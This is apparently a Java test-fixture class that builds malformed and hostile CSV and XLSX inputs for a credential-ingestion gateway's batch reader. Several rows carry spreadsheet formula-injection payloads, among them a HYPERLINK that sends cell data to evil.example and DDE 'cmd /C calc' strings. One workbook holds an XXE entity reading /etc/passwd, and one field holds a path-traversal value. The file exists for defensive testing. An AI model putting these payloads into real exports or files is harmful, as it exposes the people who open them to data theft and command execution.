package eu.credentialgateway.hostile;

import eu.credentialgateway.ingest.HandMadeWorkbook;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;

/**
 * CSV files and XLSX workbooks built to hurt the batch reader (giant fields, many columns, bad bytes, zip bombs,
 * references and numbers beyond the grid) and rows built to hurt whoever opens an export (formula prefixes in
 * identifier columns) or holding nonsense (impossible dates and credits).
 */
final class TabularCases {
    static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    static final String HEADER = "learnerId,givenNames,familyName,birthDate,title@en,awardingBodyName@en,awardingBodyCountry,awardingDate,"
            + "achievementId,awardingBodyId,credits";
    static final String[] GOOD = {Learner.ID, Learner.GIVEN, Learner.FAMILY, Learner.BIRTH, "Stewardship of records",
            "Invented Institute", "IE", "2025-06-30", "ach-1", "org-1", "5"};

    private TabularCases() {
    }

    /** The good row with one column replaced. */
    static String[] row(String column, String value) {
        String[] row = GOOD.clone();
        row[List.of(HEADER.split(",")).indexOf(column)] = value;
        return row;
    }

    static String csvLine(String[] row) {
        List<String> cells = new ArrayList<>();
        for (String cell : row) {
            cells.add(cell.contains(",") || cell.contains("\"") || cell.contains("\n") ? "\"" + cell.replace("\"", "\"\"") + "\"" : cell);
        }
        return String.join(",", cells) + "\n";
    }

    static List<HostileCase> all() {
        List<HostileCase> cases = new ArrayList<>();
        cases.addAll(csvFiles());
        cases.addAll(rows());
        cases.addAll(workbooks());
        return cases;
    }

    private static HostileCase csv(String what, String text) {
        return HostileCase.conversion("csv", what, "text/csv", text);
    }

    private static HostileCase csv(String what, byte[] bytes) {
        return HostileCase.conversion("csv", what, "text/csv", bytes);
    }

    /** Files refused whole. */
    static List<HostileCase> csvFiles() {
        String good = HEADER + "\n" + csvLine(GOOD);
        List<HostileCase> cases = new ArrayList<>();
        cases.add(csv("giant-field", HEADER + "\n" + csvLine(row("title@en", "x".repeat(2_000_000)))));
        cases.add(csv("header-of-3000-columns", "a,".repeat(3_000) + "b\n" + csvLine(GOOD)));
        cases.add(csv("row-of-5000-cells", good + ",".repeat(5_000) + "\n"));
        cases.add(csv("row-too-long", HEADER + "\n" + String.join(",", Collections.nCopies(11, "y".repeat(30_000))) + "\n"));
        cases.add(csv("latin1-row", good.replace(Learner.FAMILY, Learner.FAMILY + "é").getBytes(StandardCharsets.ISO_8859_1)));
        cases.add(csv("overlong-in-header", XmlCases.splice(good, "givenNames", new byte[] {(byte) 0xC0, (byte) 0xAF})));
        cases.add(csv("encoded-surrogate", XmlCases.splice(good, Learner.FAMILY, new byte[] {(byte) 0xED, (byte) 0xB0, (byte) 0x80})));
        cases.add(csv("cut-multibyte-at-end", XmlCases.concat(good.getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3})));
        cases.add(csv("utf16le", good.getBytes(StandardCharsets.UTF_16LE)));
        cases.add(csv("unknown-column", HEADER + ",evil\n" + csvLine(GOOD).replace("\n", ",x\n")));
        cases.add(csv("missing-required-column", HEADER.replace(",awardingDate", "") + "\n" + csvLine(GOOD).replace(",2025-06-30", "")));
        cases.add(csv("duplicate-column", HEADER + ",givenNames\n" + csvLine(GOOD).replace("\n", ",Other\n")));
        cases.add(csv("header-only", HEADER + "\n"));
        cases.add(csv("empty", ""));
        cases.add(csv("unterminated-quote", HEADER + "\n\"" + csvLine(GOOD)));
        return cases;
    }

    /** Files read, each row of them refused (the answer is the batch summary; every row quarantined). */
    static List<HostileCase> rows() {
        List<HostileCase> cases = new ArrayList<>();
        cases.add(row("formula-equals-in-learner-id", "learnerId", "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")"));
        cases.add(row("formula-plus-in-achievement-id", "achievementId", "+1+cmd|' /C calc'!A0"));
        cases.add(row("formula-minus-in-awarding-body-id", "awardingBodyId", "-2+3+cmd|' /C calc'!A0"));
        cases.add(row("formula-at-in-learner-id", "learnerId", "@SUM(1+1)*cmd|' /C calc'!A0"));
        cases.add(row("formula-tab-in-learner-id", "learnerId", "\t=1+1"));
        cases.add(row("year-99999", "awardingDate", "99999-06-30"));
        cases.add(row("year-minus-44", "awardingDate", "-0044-03-15"));
        cases.add(row("year-1066", "awardingDate", "1066-10-14"));
        cases.add(row("born-in-2990", "birthDate", "2990-01-01"));
        cases.add(row("february-30", "awardingDate", "2025-02-30"));
        cases.add(row("credits-negative", "credits", "-6"));
        cases.add(row("credits-nan", "credits", "NaN"));
        cases.add(row("credits-1e999999999", "credits", "1E999999999"));
        cases.add(row("country-not-a-code", "awardingBodyCountry", "../../etc"));
        cases.add(row("title-replacement-character", "title@en", "Stewardship \uFFFD of records"));
        cases.add(csv("row-field-count", HEADER + "\n" + csvLine(GOOD).replace("\n", ",extra,cells\n")));
        return cases;
    }

    private static HostileCase row(String what, String column, String value) {
        return csv(what, HEADER + "\n" + csvLine(row(column, value)));
    }

    private static HostileCase xlsx(String what, byte[] bytes) {
        return HostileCase.conversion("xlsx", what, XLSX, bytes);
    }

    /** The template's header as an inline-string sheet row 1. */
    static String headRow() {
        return sheetRow(1, HEADER.split(","));
    }

    static String sheetRow(int r, String[] cells) {
        StringBuilder row = new StringBuilder("<row r=\"" + r + "\">");
        for (int c = 0; c < cells.length; c++) {
            row.append("<c r=\"").append((char) ('A' + c)).append(r).append("\" t=\"inlineStr\"><is><t>")
                    .append(cells[c].replace("&", "&amp;").replace("<", "&lt;")).append("</t></is></c>");
        }
        return row.append("</row>").toString();
    }

    static List<HostileCase> workbooks() {
        String head = headRow();
        String good = head + sheetRow(2, GOOD);
        List<HostileCase> cases = new ArrayList<>();
        cases.add(xlsx("shared-strings-bomb", HandMadeWorkbook.of(good, "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                + "<si><t>aaaaaaaaaaaaaaaaaaaa</t></si>".repeat(1_400_000) + "</sst>")));
        cases.add(xlsx("sheet-bomb", HandMadeWorkbook.of(good + "<!-- padding -->".repeat(2_000_000), null)));
        cases.add(xlsx("column-reference-of-12-letters", HandMadeWorkbook.of(head
                + "<row r=\"2\"><c r=\"ZZZZZZZZZZZZ2\" t=\"inlineStr\"><is><t>x</t></is></c></row>", null)));
        cases.add(xlsx("column-xfd", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"XFD2\" t=\"inlineStr\"><is><t>x</t></is></c></row>", null)));
        cases.add(xlsx("row-number-beyond-the-grid", HandMadeWorkbook.of(head
                + "<row r=\"99999999999\"><c t=\"inlineStr\"><is><t>x</t></is></c></row>", null)));
        cases.add(xlsx("600-unreferenced-cells", HandMadeWorkbook.of(head + "<row r=\"2\">"
                + "<c t=\"inlineStr\"><is><t>x</t></is></c>".repeat(600) + "</row>", null)));
        cases.add(xlsx("shared-string-index-out-of-range", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>7</v></c></row>",
                HandMadeWorkbook.sharedStrings(1))));
        cases.add(xlsx("shared-string-index-huge", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>99999999999999</v></c></row>",
                HandMadeWorkbook.sharedStrings(1))));
        cases.add(xlsx("shared-string-index-negative", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>-1</v></c></row>",
                HandMadeWorkbook.sharedStrings(1))));
        cases.add(xlsx("number-1e999999999", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"K2\"><v>1E999999999</v></c></row>", null)));
        cases.add(xlsx("number-nan", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"K2\"><v>NaN</v></c></row>", null)));
        cases.add(xlsx("number-1e400", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"K2\"><v>1E400</v></c></row>", null)));
        cases.add(xlsx("style-not-in-the-workbook", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"K2\" s=\"999999\"><v>3</v></c></row>", null)));
        cases.add(xlsx("giant-inline-string", HandMadeWorkbook.of(head + "<row r=\"2\"><c r=\"E2\" t=\"inlineStr\"><is><t>"
                + "ab cd ".repeat(10_000) + "</t></is></c></row>", null)));
        cases.add(xlsx("not-a-zip", "PK this is not a workbook".getBytes(StandardCharsets.UTF_8)));
        cases.add(xlsx("zip-without-a-workbook", HandMadeWorkbook.zip(Map.of("hello.txt", "hello"))));
        cases.add(xlsx("doctype-in-sheet", HandMadeWorkbook.zip(withSheet(HandMadeWorkbook.parts(good, null),
                "<?xml version=\"1.0\"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                        + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>" + head
                        + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>"))));
        cases.add(xlsx("formula-in-learner-id", HandMadeWorkbook.of(head + sheetRow(2, row("learnerId", "=cmd|' /C calc'!A0")), null)));
        cases.add(xlsx("year-minus-44", HandMadeWorkbook.of(head + sheetRow(2, row("awardingDate", "-0044-03-15")), null)));
        return cases;
    }

    private static Map<String, String> withSheet(Map<String, String> parts, String sheet) {
        parts.put("xl/worksheets/sheet1.xml", sheet);
        return parts;
    }
}
